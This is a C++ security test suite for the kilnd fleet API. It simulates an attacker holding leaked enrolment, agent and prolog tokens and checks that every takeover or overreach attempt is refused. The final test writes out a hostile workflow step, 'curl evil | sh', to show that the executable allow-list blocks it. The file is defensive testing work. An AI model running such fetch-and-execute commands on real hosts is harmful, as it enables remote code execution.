// The security tier (issue 31): an attacker against a real kilnd and PostgreSQL, holding what
// leaks in practice: the fleet-wide enrolment file, a host's used enrolment token, another
// host's agent token, the Slurm prolog's token, a forged inventory. Every attempt is refused
// with a clear 4xx, writes nothing, and leaves the real host's agent working.

#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <thread>

#include "tests/api/api_fixture.h"

namespace kiln::apitest {
namespace {

class AttackerTest : public ApiTest {
 protected:
  std::vector<std::string> extraKilndArgs() const override { return {"--workflows-dir", KILN_WORKFLOWS_DIR}; }

  void SetUp() override {
    ApiTest::SetUp();
    if (HasFatalFailure()) return;
    importFleet(smallFleet(1));
    hosts_ = podHosts("t01-b01-p0001");
    ASSERT_GE(hosts_.size(), 3u);
    operator_ = client(createToken("operator", "provisioning"));
    fleet_enroll_ = createToken("enroll", "the fleet-wide enrolment file");
  }

  Reply registerAs(const std::string& token, const std::string& host, const json& inventory = json::object()) {
    return call(
        *client(token), "POST", "/api/v1/agents/register",
        json{{"host", host}, {"boot_id", "boot-1"}, {"agent_version", "test"}, {"inventory", inventory}}.dump());
  }
  // A host's own enrolment token, as the provisioning system gets it.
  std::string hostToken(const std::string& host, bool reenroll = false, int ttl_s = 3600) {
    Reply r = call(*operator_, "POST", "/api/v1/hosts/" + host + "/enrolment-tokens",
                   json{{"ttl_s", ttl_s}, {"reenroll", reenroll}}.dump());
    EXPECT_EQ(r.status, 201) << r.body;
    EXPECT_EQ(r.doc().value("host", ""), host);
    EXPECT_EQ(r.doc().value("role", ""), "enroll");
    return r.doc().value("token", "");
  }
  // The real agent of `host`, enrolled with the host's own token.
  std::string enrolRealAgent(const std::string& host) {
    Reply r = registerAs(hostToken(host), host, json{{"driver", "570.86"}});
    EXPECT_EQ(r.status, 200) << r.body;
    return r.doc().value("token", "");
  }
  int poll(const std::string& agent_token, const std::string& host) {
    return call(*client(agent_token), "GET", "/api/v1/agents/" + host + "/work?wait=0&boot_id=boot-1").status;
  }
  std::string hostFacts(const std::string& host) {
    return db_->query(
        "SELECT coalesce(boot_id, '') || '/' || coalesce(agent_version, '') || '/' ||"
        " (SELECT coalesce(string_agg(kind || '=' || version, ',' ORDER BY kind), '') FROM components"
        "  WHERE target_id = '" +
        host + "') FROM hosts WHERE id = '" + host + "'");
  }
  std::string liveAgentTokens(const std::string& host) {
    return db_->query("SELECT count(*) FROM tokens WHERE host_id = '" + host +
                      "' AND role = 'agent' AND revoked_at IS NULL");
  }

  std::vector<std::string> hosts_;
  std::unique_ptr<http::Client> operator_;
  std::string fleet_enroll_;
};

TEST_F(AttackerTest, TheFleetEnrolmentFileCannotTakeOverAHostWithAnAgent) {
  const std::string victim = hosts_[0];
  const std::string real = enrolRealAgent(victim);
  const std::string before = hostFacts(victim);

  Reply r = registerAs(fleet_enroll_, victim, json{{"driver", "1.0-forged"}});
  EXPECT_TRUE(isError(r, 409, "conflict")) << r.body;
  EXPECT_NE(r.doc()["error"]["message"].get<std::string>().find("--reenroll"), std::string::npos) << r.body;
  EXPECT_EQ(hostFacts(victim), before) << "the forged inventory and boot id are not written";
  EXPECT_EQ(liveAgentTokens(victim), "1");
  EXPECT_EQ(poll(real, victim), 204) << "the real agent still works";

  // The same file still enrols a host that has no agent yet (new hardware).
  EXPECT_EQ(registerAs(fleet_enroll_, hosts_[1]).status, 200);
}

TEST_F(AttackerTest, AHostsEnrolmentTokenEnrolsThatHostOnlyAndOnlyOnce) {
  const std::string token = hostToken(hosts_[0]);
  // Used for another host (a forged inventory for it): refused, and the token is not spent.
  const std::string other_before = hostFacts(hosts_[1]);
  Reply wrong = registerAs(token, hosts_[1], json{{"driver", "1.0-forged"}});
  EXPECT_TRUE(isError(wrong, 403, "permission_denied")) << wrong.body;
  EXPECT_EQ(hostFacts(hosts_[1]), other_before);
  EXPECT_EQ(liveAgentTokens(hosts_[1]), "0");

  Reply first = registerAs(token, hosts_[0]);
  ASSERT_EQ(first.status, 200) << first.body;
  const std::string real = first.doc()["token"].get<std::string>();
  // A used token (copied from the host's provisioning log): 401, nothing written.
  const std::string before = hostFacts(hosts_[0]);
  Reply again = registerAs(token, hosts_[0], json{{"driver", "1.0-forged"}});
  EXPECT_TRUE(isError(again, 401, "unauthenticated")) << again.body;
  EXPECT_EQ(hostFacts(hosts_[0]), before);
  EXPECT_EQ(poll(real, hosts_[0]), 204);
  // Nor does it enrol a host without an agent: it is spent, whatever it names.
  EXPECT_TRUE(isError(registerAs(token, hosts_[2]), 401, "unauthenticated"));
  EXPECT_EQ(liveAgentTokens(hosts_[2]), "0");
}

TEST_F(AttackerTest, AnExpiredEnrolmentTokenEnrolsNothing) {
  const std::string token = hostToken(hosts_[0], false, 60);
  db_->query("UPDATE tokens SET expires_at = now() - interval '1 second' WHERE host_id = '" + hosts_[0] +
             "' AND role = 'enroll'");
  Reply r = registerAs(token, hosts_[0]);
  EXPECT_TRUE(isError(r, 401, "unauthenticated")) << r.body;
  EXPECT_EQ(liveAgentTokens(hosts_[0]), "0");
}

TEST_F(AttackerTest, OnlyAnOperatorsReenrolmentTokenReplacesAnAgentAndItIsAudited) {
  const std::string old_agent = enrolRealAgent(hosts_[0]);
  // A plain host token cannot replace the live agent either.
  EXPECT_TRUE(isError(registerAs(hostToken(hosts_[0]), hosts_[0]), 409, "conflict"));
  EXPECT_EQ(poll(old_agent, hosts_[0]), 204);

  Reply r = registerAs(hostToken(hosts_[0], /*reenroll=*/true), hosts_[0]);
  ASSERT_EQ(r.status, 200) << r.body;
  EXPECT_EQ(poll(r.doc()["token"].get<std::string>(), hosts_[0]), 204);
  EXPECT_EQ(poll(old_agent, hosts_[0]), 401) << "the replaced agent's token is revoked";
  EXPECT_EQ(liveAgentTokens(hosts_[0]), "1");
  EXPECT_EQ(db_->query("SELECT string_agg(action, ',' ORDER BY id) FROM audit_log WHERE target = '" + hosts_[0] +
                       "' AND action IN ('host.enrolment_token', 'agent.enroll', 'agent.reenroll')"),
            "host.enrolment_token,agent.enroll,host.enrolment_token,host.enrolment_token,agent.reenroll");
  // A re-enrolment token on a host without an agent replaces nothing: audited as an enrolment.
  ASSERT_EQ(registerAs(hostToken(hosts_[1], /*reenroll=*/true), hosts_[1]).status, 200);
  EXPECT_EQ(db_->query("SELECT string_agg(action, ',' ORDER BY id) FROM audit_log WHERE target = '" + hosts_[1] +
                       "' AND action LIKE 'agent.%'"),
            "agent.enroll");
}

TEST_F(AttackerTest, AnAgentTokenActsOnlyForItsOwnHost) {
  const std::string mine = enrolRealAgent(hosts_[0]);
  const std::string theirs = enrolRealAgent(hosts_[1]);
  EXPECT_TRUE(
      isError(call(*client(mine), "GET", "/api/v1/agents/" + hosts_[1] + "/work?wait=0"), 403, "permission_denied"));
  // Nor may it enrol, issue enrolment tokens, read the fleet or start runs.
  EXPECT_EQ(registerAs(mine, hosts_[2]).status, 403);
  EXPECT_EQ(call(*client(mine), "POST", "/api/v1/hosts/" + hosts_[1] + "/enrolment-tokens", "{}").status, 403);
  EXPECT_EQ(call(*client(mine), "GET", "/api/v1/hosts").status, 403);
  EXPECT_EQ(poll(theirs, hosts_[1]), 204);
}

// Agent tokens expire (30 days by default) and renew themselves with the token they replace;
// another host's token cannot renew a host's, an expired one authenticates nothing (not even
// from the cache), and every token's expiry and last use show in GET /tokens.
TEST_F(AttackerTest, AgentTokensExpireAndOnlyTheirOwnHostRenewsThem) {
  Reply first = registerAs(hostToken(hosts_[0]), hosts_[0]);
  ASSERT_EQ(first.status, 200) << first.body;
  const std::int64_t ttl = first.doc().value("expires_in_s", std::int64_t{0});
  EXPECT_GT(ttl, 30 * 24 * 3600 - 60);
  EXPECT_LE(ttl, 30 * 24 * 3600);
  const std::string old_token = first.doc()["token"].get<std::string>();
  const std::string old_id = first.doc()["token_id"].get<std::string>();
  const std::string theirs = enrolRealAgent(hosts_[1]);

  // Another host's agent token renews nothing of this host's.
  EXPECT_TRUE(isError(call(*client(theirs), "POST", "/api/v1/agents/" + hosts_[0] + "/token", ""), 403,
                      "permission_denied"));
  EXPECT_EQ(liveAgentTokens(hosts_[0]), "1");

  Reply renewed = call(*client(old_token), "POST", "/api/v1/agents/" + hosts_[0] + "/token", "");
  ASSERT_EQ(renewed.status, 200) << renewed.body;
  const std::string new_token = renewed.doc()["token"].get<std::string>();
  EXPECT_NE(new_token, old_token);
  EXPECT_GT(renewed.doc().value("expires_in_s", std::int64_t{0}), ttl - 60);
  EXPECT_EQ(poll(new_token, hosts_[0]), 204);
  // The old one is good for an hour at most now (the agent stores the new one first).
  EXPECT_EQ(db_->query("SELECT expires_at <= now() + interval '1 hour' FROM tokens WHERE id = '" + old_id + "'"), "t");
  EXPECT_EQ(poll(old_token, hosts_[0]), 204);
  EXPECT_EQ(db_->query("SELECT action FROM audit_log WHERE target = '" + hosts_[0] + "' ORDER BY id DESC LIMIT 1"),
            "agent.token_renew");

  // Past its expiry a token is refused: kilnd's cache learns of expiries within a second, as of
  // revocations (here the expiry is moved into the past by hand, the cache holding the old one).
  db_->query("UPDATE tokens SET expires_at = now() - interval '1 second' WHERE id = '" + old_id + "'");
  int status = 0;
  for (int i = 0; i < 50 && status != 401; ++i) {
    status = poll(old_token, hosts_[0]);
    if (status != 401) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  EXPECT_EQ(status, 401);
  EXPECT_TRUE(isError(call(*client(old_token), "POST", "/api/v1/agents/" + hosts_[0] + "/token", ""), 401,
                      "unauthenticated"));
  EXPECT_EQ(poll(new_token, hosts_[0]), 204);

  // GET /tokens shows every token's expiry and, within a few seconds, its last use.
  json row;
  for (int i = 0; i < 100; ++i) {
    Reply list = call(*admin_, "GET", "/api/v1/tokens");
    ASSERT_EQ(list.status, 200) << list.body;
    const json page = list.doc();
    for (const auto& t : page["items"])
      if (new_token.rfind("kiln_" + t.value("id", "") + "_", 0) == 0) row = t;
    if (!row.is_null() && row["last_used_at"].is_string()) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  ASSERT_FALSE(row.is_null());
  EXPECT_TRUE(row["expires_at"].is_string()) << row.dump();
  EXPECT_TRUE(row["last_used_at"].is_string()) << row.dump();
}

TEST_F(AttackerTest, ThePrologsTokenStartsAndReadsPreJobChecksAndNothingElse) {
  Reply put = call(*admin_, "PUT", "/api/v1/workflows/two-steps", kTwoStepsWorkflow, "application/yaml");
  ASSERT_TRUE(put.status == 200 || put.status == 201) << put.body;
  auto prolog = client(createToken("prejob", "slurm prolog"));
  // The check itself, and its verdict: allowed.
  Reply check = call(*prolog, "POST", "/api/v1/scheduler/checks", json{{"nodes", {hosts_[0]}}, {"job", "42"}}.dump());
  ASSERT_EQ(check.status, 201) << check.body;
  const std::string check_id = check.doc()["id"].get<std::string>();
  Reply followed = call(*prolog, "GET", "/api/v1/scheduler/checks/" + check_id);
  ASSERT_EQ(followed.status, 200) << followed.body;
  EXPECT_EQ(followed.doc()["purpose"], "pre_job");
  // What kilnctl polls while it waits (issue 35): the state, no hosts.
  Reply state = call(*prolog, "GET", "/api/v1/scheduler/checks/" + check_id + "?view=state");
  ASSERT_EQ(state.status, 200) << state.body;
  EXPECT_EQ(state.doc()["id"], check_id);
  EXPECT_TRUE(state.doc()["state"].is_string());
  EXPECT_FALSE(state.doc().contains("hosts")) << state.body;
  EXPECT_TRUE(isError(call(*prolog, "GET", "/api/v1/scheduler/checks/" + check_id + "?view=hosts"), 400,
                      "invalid_argument"));
  // Unknown node names, read in one batch, are each named.
  Reply unknown = call(*prolog, "POST", "/api/v1/scheduler/checks",
                       json{{"nodes", {hosts_[0], "no-such-node", "nor-this"}}}.dump());
  ASSERT_EQ(unknown.status, 422) << unknown.body;
  EXPECT_NE(unknown.body.find("nodes[1]"), std::string::npos) << unknown.body;
  EXPECT_NE(unknown.body.find("nodes[2]"), std::string::npos) << unknown.body;
  EXPECT_EQ(unknown.body.find("nodes[0]"), std::string::npos) << unknown.body;

  // Everything an operator token could do on every host: refused.
  EXPECT_TRUE(isError(call(*prolog, "PUT", "/api/v1/workflows/two-steps", kTwoStepsWorkflow, "application/yaml"), 403,
                      "permission_denied"));
  EXPECT_TRUE(isError(
      call(*prolog, "POST", "/api/v1/workflow-runs", json{{"workflow", "two-steps"}, {"hosts", {hosts_[0]}}}.dump()),
      403, "permission_denied"));
  EXPECT_EQ(call(*prolog, "POST", "/api/v1/hosts/" + hosts_[0] + "/actions", json{{"action", "drain"}}.dump()).status,
            403);
  EXPECT_EQ(call(*prolog, "GET", "/api/v1/hosts").status, 403);
  EXPECT_EQ(call(*prolog, "POST", "/api/v1/hosts/" + hosts_[0] + "/enrolment-tokens", "{}").status, 403);
  EXPECT_EQ(call(*prolog, "POST", "/api/v1/tokens", json{{"role", "admin"}, {"name", "x"}}.dump()).status, 403);
  EXPECT_EQ(db_->query("SELECT count(*) FROM workflow_runs WHERE workflow = 'two-steps'"), "0");

  // It reads pre-job checks only: another run is not found to it.
  Reply run =
      call(*admin_, "POST", "/api/v1/workflow-runs", json{{"workflow", "two-steps"}, {"hosts", {hosts_[1]}}}.dump());
  ASSERT_EQ(run.status, 201) << run.body;
  const std::string id = run.doc()["id"].get<std::string>();
  EXPECT_TRUE(isError(call(*prolog, "GET", "/api/v1/scheduler/checks/" + id), 404, "not_found"));
  EXPECT_TRUE(isError(call(*prolog, "GET", "/api/v1/scheduler/checks/" + id + "?view=state"), 404, "not_found"));
  EXPECT_EQ(call(*prolog, "GET", "/api/v1/workflow-runs/" + id).status, 403);
}

TEST_F(AttackerTest, AnEnrolmentTokenRequestOfTheWrongShapeIsRefused) {
  EXPECT_TRUE(isError(call(*operator_, "POST", "/api/v1/hosts/" + hosts_[0] + "/enrolment-tokens",
                           json{{"ttl_s", 5}, {"forever", true}}.dump()),
                      422, "invalid_content"));
  EXPECT_TRUE(isError(call(*operator_, "POST", "/api/v1/hosts/no-such-host/enrolment-tokens", "{}"), 404, "not_found"));
  EXPECT_EQ(db_->query("SELECT count(*) FROM tokens WHERE role = 'enroll' AND host_id IS NOT NULL"), "0");
}

// kilnd started with --workflow-executables: even an admin's token (stolen) cannot put a
// workflow that runs anything else on the fleet's hosts.
class AllowListAttackerTest : public ApiTest {
 protected:
  std::vector<std::string> extraKilndArgs() const override { return {"--workflow-executables", list_}; }
  void SetUp() override {
    list_ = (std::filesystem::temp_directory_path() / ("kiln-allow-" + std::to_string(::getpid()))).string();
    std::ofstream(list_) << "# the fleet's tools\nnvidia-smi\n";
    ApiTest::SetUp();
  }
  void TearDown() override {
    ApiTest::TearDown();
    std::filesystem::remove(list_);
  }
  std::string list_;
};

TEST_F(AllowListAttackerTest, AWorkflowRunningAnythingElseIsRefusedAndNothingStored) {
  Reply bad = call(*admin_, "PUT", "/api/v1/workflows/pwn",
                   "name: pwn\nversion: \"1\"\nscope: host\nsteps:\n  - id: s\n    run: [bash, -c, \"curl evil | sh\"]\n"
                   "    timeout: 1m\n",
                   "application/yaml");
  ASSERT_TRUE(isError(bad, 422, "invalid_content")) << bad.body;
  EXPECT_EQ(bad.doc()["error"]["details"]["fields"][0]["path"], "steps[0].run[0]") << bad.body;
  EXPECT_TRUE(isError(call(*admin_, "GET", "/api/v1/workflows/pwn"), 404, "not_found"));
  EXPECT_EQ(db_->query("SELECT count(*) FROM workflow_versions WHERE name = 'pwn'"), "0");

  Reply good = call(*admin_, "PUT", "/api/v1/workflows/smi",
                    "name: smi\nversion: \"1\"\nscope: host\nsteps:\n  - id: s\n    run: [nvidia-smi, -q]\n"
                    "    timeout: 1m\n",
                    "application/yaml");
  EXPECT_TRUE(good.status == 200 || good.status == 201) << good.body;
}

}  // namespace
}  // namespace kiln::apitest
